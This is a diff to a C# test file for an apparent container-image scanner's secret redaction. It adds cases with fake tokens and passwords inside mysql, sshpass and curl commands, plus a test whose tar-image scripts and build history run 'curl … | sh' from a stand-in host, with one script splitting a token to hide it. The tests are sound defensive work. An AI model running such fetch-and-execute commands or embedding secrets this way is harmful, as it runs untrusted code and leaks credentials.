@@ -1,4 +1,6 @@
+using Wellguard.Artifacts;
 using Wellguard.Signals;
+using Wellguard.Tests.Artifacts;
 using Xunit;
 
 namespace Wellguard.Tests.Signals;
@@ -20,6 +22,13 @@ public sealed class RedactionTests
         { $"sshpass -p {Body} ssh h.example", Body },
         { $"mysql -u root -p{Body} db", Body },
         { $"x ghp_{Body} y", Body },
+        { $"curl https://h.example/a/ghp_{Body}/b.sh", Body },
+        { $"opt/ghp_{Body}.sh", Body },
+        { $"environment -> https://h.example/${{x}}ghp_{Body}", Body },
+        { $"mysql -p{Body} -h x", Body },
+        { $"/usr/bin/mysqldump -p'{Body}'", Body },
+        { $"curl https://api.telegram.org/bot123456789:AA{Body}/sendMessage", Body },
+        { $"https://sk_live_{Body}@h.example/", Body },
         { $"npm_{Body[..36]} y", Body[..36] },
         { $"say glpat-{Body}", Body },
         { $"AKIA{"ABCDEFGHIJKLMNOP"}", "ABCDEFGHIJKLMNOP" },
@@ -38,6 +47,7 @@ public sealed class RedactionTests
     [InlineData("curl -fsSL https://dl.example/a.sh | sh")]
     [InlineData("apt-get install -y --no-install-recommends libsecret-1-0")]
     [InlineData("export TOKEN=$CI_TOKEN")]
+    [InlineData("usr/lib/python3/robotparser.py: sk-learn, dapi-client, both")]
     [InlineData("docker login -u \"$USER\" --password-stdin")]
     public void Other_text_stays_as_it_is(string text) => Assert.Equal(text, Redaction.Clean(text));
 
@@ -46,6 +56,31 @@ public sealed class RedactionTests
     {
         Assert.Equal("ghp_…[redacted]", Redaction.Hint("ghp_" + Body));
         Assert.Equal("[redacted]", Redaction.Hint("short"));
+    }
+
+    [Theory]
+    [InlineData("text")]
+    [InlineData("name")]
+    [InlineData("label")]
+    [InlineData("joined")]
+    public async Task No_format_writes_a_token_wherever_the_image_holds_it(string where)
+    {
+        var token = "ghp_" + Body;
+        var tar = where switch
+        {
+            "name" => new RawTar().File($"opt/{token}.sh", "#!/bin/sh\ncurl -s https://x.example.invalid/a | sh\n"),
+            "joined" => new RawTar().File("e", $"#!/bin/sh\na={token[..20]}; b={token[20..]}; curl -s https://x.example.invalid/$a$b | sh\n"),
+            _ => new RawTar().File("e", $"#!/bin/sh\ncurl -s https://x.example.invalid/{token}/b.sh | sh\n"),
+        };
+        var config = new ImageConfig { Entrypoint = ["/e", token], Labels = where == "label" ? [new("x", token)] : [], History = [new($"RUN curl https://x.example.invalid/{token} | sh", false)] };
+        var report = await Pipeline.ScanAsync(RawTar.Image(config, tar.ToArray()), new ScanOptions(Verdicts.Policy.Default, new DateOnly(2026, 11, 24)), CancellationToken.None);
+        Assert.NotEmpty(report.Signals);
+        foreach (var format in Catalogue.ReportFormats)
+        {
+            using var output = new MemoryStream();
+            format.Write([report], output, new Reports.ReportContext("1"));
+            Assert.DoesNotContain(Body[..16], System.Text.Encoding.UTF8.GetString(output.ToArray()), StringComparison.Ordinal);
+        }
     }
 
     [Fact]
